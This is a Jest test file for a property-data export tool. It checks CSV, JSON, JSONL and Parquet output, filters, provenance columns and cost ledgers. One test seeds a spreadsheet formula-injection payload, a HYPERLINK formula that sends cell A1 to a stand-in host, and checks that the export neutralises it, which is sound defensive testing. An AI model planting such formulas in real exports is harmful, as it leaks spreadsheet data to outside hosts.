import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { asyncBufferFromFile, parquetMetadataAsync, parquetReadObjects } from 'hyparquet';
import { seedProperties } from '../../bench/export-rows.js';
import { sha256 } from '../../core/hash.js';
import { DOCUMENT_FIELDS } from '../../domain/document-shape.js';
import type { ExportName } from '../../reports/export/dataset.js';
import { openFileSink } from '../../reports/export/file.js';
import { readCondition } from '../../reports/export/filter.js';
import type { ExportFormat } from '../../reports/export/formats.js';
import {
  datasetOf,
  type ExportRequest,
  type Manifest,
  whyEmpty,
  writeExport,
} from '../../reports/export/write-export.js';
import { bookCost } from '../../store/cost/entries.js';
import { type Database, initDatabase, openDatabase } from '../../store/database.js';
import { parse } from '../support/csv.js';
import { EXPORT_OF_ALL } from '../support/export-request.js';
import { startTestDatabase, type TestDatabase } from '../support/mongodb.js';
import { phx, startPhx } from '../support/phx.js';

const COUNT = 2_000;
const MOST_MB = 300;
const BASE = { ...EXPORT_OF_ALL, format: 'csv' } as const satisfies ExportRequest;

describe('an export', () => {
  let server: TestDatabase;
  let database: Database;
  let folder: string;
  let variables: Readonly<Record<string, string>>;

  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'phoenix-export-'));
    server = await startTestDatabase();
    database = await openDatabase(server.url, 'phoenix_demo');
    await initDatabase(database.db);
    await seedProperties(database.db, COUNT);
    variables = { MONGODB_URL: server.url, PHOENIX_MODE: 'demo', PHOENIX_DATA: folder };
  }, 120_000);
  afterAll(async () => {
    await database.close();
    await server.stop();
    await rm(folder, { recursive: true, force: true });
  }, 60_000);

  async function written(changes: Partial<ExportRequest>): Promise<{ path: string; manifest: Manifest }> {
    const request = { ...BASE, ...changes };
    const path = join(folder, `file.${request.format}`);
    const manifest = await writeExport(database.db, request, await openFileSink(path), new AbortController().signal);
    return { path, manifest };
  }
  const rowsOf = async (changes: Partial<ExportRequest>): Promise<readonly Record<string, unknown>[]> => {
    const { path } = await written({ ...changes, format: 'json' });
    return JSON.parse(await readFile(path, 'utf8'));
  };
  const condition = (text: string, what: ExportName = 'properties') => {
    const read = readCondition(text, datasetOf(what, BASE).columns, BASE.timeZone);
    if ('fault' in read) throw new Error(read.fault);
    return read.condition;
  };

  it.each<ExportFormat>(['csv', 'json', 'jsonl', 'parquet'])(
    'of %s holds every property in little memory, with the checksum of its file',
    async (format) => {
      const path = join(folder, `homes.${format}`);
      const { code, stdout, stderr } = await phx(['--json', 'export', '--out', path], variables);
      expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
      const told: Manifest & { figures: { peakMb: number } } = JSON.parse(stdout);
      const bytes = await readFile(path);
      expect(told).toMatchObject({ rows: COUNT, format, bytes: bytes.byteLength, sha256: sha256(bytes) });
      expect(told.figures.peakMb).toBeLessThan(MOST_MB);
      const kept: Manifest = JSON.parse(await readFile(`${path}.manifest.json`, 'utf8'));
      expect(kept).toMatchObject({ rows: COUNT, sha256: told.sha256, market: 'phoenix', mode: 'demo', filter: [] });
    },
    60_000,
  );

  it('has the values of the database, in every format the same', async () => {
    const shown = await database.db.collection('processed_properties').find({}).sort({ _id: 1 }).toArray();
    const rows = await rowsOf({});
    expect(rows).toHaveLength(COUNT);
    const direct = shown.map(({ normalized, property_id, quality_score, processed_at, llm_enrichment }) => ({
      ...Object.fromEntries(
        DOCUMENT_FIELDS.map(({ key }) => {
          const [group = '', name = ''] = key.split('.');
          return [key.replaceAll('.', '_'), normalized[group][name]];
        }),
      ),
      ...{ property_id, quality_score, processed_at: processed_at.toISOString() },
      ...{ description: llm_enrichment.description, key_features: llm_enrichment.key_features },
    }));
    const names = Object.keys(direct[0] ?? {});
    expect(rows.map((row) => Object.fromEntries(names.map((name) => [name, row[name]])))).toEqual(direct);
    const lines = await readFile((await written({ format: 'jsonl' })).path, 'utf8');
    expect(
      lines
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line)),
    ).toEqual(rows);
    const { path } = await written({ format: 'parquet' });
    expect(await readParquet(path)).toEqual(rows);
  }, 60_000);

  it('of Parquet has its rows in groups and the types of its columns', async () => {
    const file = await asyncBufferFromFile((await written({ format: 'parquet', provenance: true })).path);
    const { num_rows, row_groups, schema } = await parquetMetadataAsync(file);
    expect([Number(num_rows), row_groups.length]).toEqual([COUNT, 1]);
    const types = new Map(schema.map(({ name, type, converted_type }) => [name, converted_type ?? type]));
    expect(types.get('pricing_list_price')).toBe('DOUBLE');
    expect(types.get('details_bedrooms')).toBe('INT64');
    expect(types.get('processed_at')).toBe('TIMESTAMP_MILLIS');
    expect(types.get('pricing_list_price__raw_sha256')).toBe('UTF8');
  });

  it('of a table runs no word of a page in a spreadsheet, and leaves negative numbers alone', async () => {
    const [header = [], ...rows] = parse(await readFile((await written({})).path, 'utf8'));
    expect(rows).toHaveLength(COUNT);
    const cells = rows.flat().filter((cell) => !/^-?\d+(\.\d+)?$/.test(cell));
    expect(cells.filter((cell) => /^[\s"]*[=+\-@]/.test(cell))).toEqual([]);
    const at = header.indexOf('description');
    expect(rows[1]?.[at]).toBe(`'=HYPERLINK("http://site.example/?"&A1,"see photos")`);
    expect(rows[2]?.[at]).toContain("\r\n'-2+3");
    expect(Number(rows[0]?.[header.indexOf('location_longitude')])).toBeLessThan(-112);
  });

  it('is of the days, ZIP codes and values that were asked for', async () => {
    const { db } = database;
    const direct = (match: object) => db.collection('processed_properties').countDocuments(match);
    const range = { from: '2026-11-05', to: '2026-11-08' };
    const between = { $gte: new Date('2026-11-05T07:00:00Z'), $lt: new Date('2026-11-09T07:00:00Z') };
    const cheap = [condition('list_price<=300000'), condition('bedrooms>=3')];
    const price = { 'normalized.pricing.list_price': { $lte: 300_000, $ne: null } };
    const beds = { 'normalized.details.bedrooms': { $gte: 3 } };
    const cases: readonly (readonly [Partial<ExportRequest>, object])[] = [
      [{ range }, { processed_at: between }],
      [{ zips: ['85031'] }, { 'normalized.address.zip': '85031' }],
      [{ conditions: cheap }, { ...price, ...beds }],
      [
        { range, zips: ['85031', '85035'], conditions: cheap },
        { ...price, ...beds, processed_at: between, 'normalized.address.zip': { $in: ['85031', '85035'] } },
      ],
    ];
    for (const [changes, match] of cases) {
      const wanted = await direct(match);
      expect(wanted).toBeGreaterThan(0);
      expect((await written(changes)).manifest.rows).toBe(wanted);
    }
    const { manifest } = await written({ range, conditions: cheap });
    expect(manifest).toMatchObject({
      range: { column: 'processed_at', ...range, timeZone: 'America/Phoenix' },
      filter: ['pricing_list_price<=300000', 'details_bedrooms>=3'],
      writtenMeanwhile: 0,
    });
    expect(manifest.columns).toContainEqual({ name: 'details_square_feet', type: 'number', reso: 'LivingArea' });
  });

  it('tells where each value comes from, when asked', async () => {
    const sentAt = new Date('2026-11-01T10:00:00Z');
    const fetched = { _id: 'fetch-L0', source: 'phoenix-mls', host: 'h', url: 'u', grantedAt: sentAt, sentAt };
    await database.db.collection<typeof fetched>('fetches').insertOne(fetched);
    const [first] = await rowsOf({ provenance: true });
    expect(first).toMatchObject({
      pricing_list_price__source: 'phoenix-mls',
      pricing_list_price__request: 'fetch-L0',
      pricing_list_price__raw_sha256: 'raw-L0',
      pricing_list_price__at: sentAt.toISOString(),
      details_square_feet__source: 'maricopa-assessor',
    });
  });

  it.each<ExportFormat>(['csv', 'json', 'jsonl', 'parquet'])('of nothing is a valid file of %s', async (format) => {
    const { path, manifest } = await written({ format, conditions: [condition('list_price<1')] });
    expect([manifest.rows, manifest.rowsRead]).toEqual([0, COUNT]);
    const text = await readFile(path, 'utf8');
    if (format === 'csv') expect(parse(text)).toHaveLength(1);
    if (format === 'json') expect(JSON.parse(text)).toEqual([]);
    if (format === 'jsonl') expect(text).toBe('');
    if (format === 'parquet') expect(await readParquet(path)).toEqual([]);
  });

  it('of nothing says why', async () => {
    const path = join(folder, 'none.csv');
    const { code, stderr } = await phx(['export', '--out', path, '--filter', 'list_price<1'], variables);
    expect(code).toBe(0);
    const sentence = `none of the ${COUNT} rows that were read passes --filter pricing_list_price<1`;
    expect(stderr).toContain(`0 rows: ${sentence}`);
    const why = (changes: Partial<ExportRequest>) => whyEmpty(database.db, { ...BASE, ...changes }, 0);
    expect(await why({ what: 'events' })).toContain('holds no events of market phoenix yet');
    const range = { from: '2020-01-01', to: '2020-01-02' };
    expect(await why({ range, zips: ['85099'] })).toBe(
      `there are ${COUNT} of market phoenix, and none is in --range 2020-01-01:2020-01-02 and in ZIP 85099`,
    );
  });

  it('goes to stdout, and ends quietly when its reader goes away', async () => {
    const { code, stdout, stderr } = await phx(['export', '--format', 'jsonl', '--out', '-'], variables);
    expect([code, stdout.trimEnd().split('\n').length]).toEqual([0, COUNT]);
    expect(stderr).toContain(sha256(stdout));
    const { child, ended } = startPhx(['export', '--format', 'json', '--out', '-'], variables);
    child.stdout?.destroy();
    const end = await ended;
    expect([end.code, end.stderr]).toEqual([0, '']);
  });

  it('that is stopped leaves nothing', async () => {
    const before = (await readdir(folder)).sort();
    const stop = new AbortController();
    const sink = await openFileSink(join(folder, 'stopped.csv'));
    const stopping = { ...sink, write: (chunk: Uint8Array) => sink.write(chunk).then(() => stop.abort()) };
    await expect(writeExport(database.db, BASE, stopping, stop.signal)).rejects.toThrow();
    expect((await readdir(folder)).sort()).toEqual(before);
  });

  it('of ledgers has their rows', async () => {
    const { db } = database;
    const what = {
      line: 'captcha',
      item: 'captcha-solution',
      estimated: false,
      source: 'phoenix-mls',
      runKey: null,
    } as const;
    for (const [at, market] of [
      ['2026-11-01', 'phoenix'],
      ['2026-11-02', null],
      ['2026-11-03', 'tucson'],
    ] as const) {
      await bookCost(db, { key: at, ...what, market, zip: null, costUsdMicros: -2_990, day: at });
    }
    expect(await rowsOf({ what: 'costs' })).toMatchObject([
      { cost_id: '2026-11-01', cost_usd_micros: -2_990, market: 'phoenix' },
      { cost_id: '2026-11-02', cost_usd_micros: -2_990, market: null },
    ]);
    expect(await rowsOf({ what: 'costs', range: { from: '2026-11-02', to: '2026-11-03' } })).toHaveLength(1);
    const { path } = await written({ what: 'costs', format: 'parquet' });
    expect(await readParquet(path)).toEqual(await rowsOf({ what: 'costs' }));
  });
});

/** Rows of a file as JSON has them: whole numbers and instants as in the other formats. */
async function readParquet(path: string): Promise<unknown> {
  const rows = await parquetReadObjects({ file: await asyncBufferFromFile(path) });
  return JSON.parse(JSON.stringify(rows, (_key, value) => (typeof value === 'bigint' ? Number(value) : value)));
}
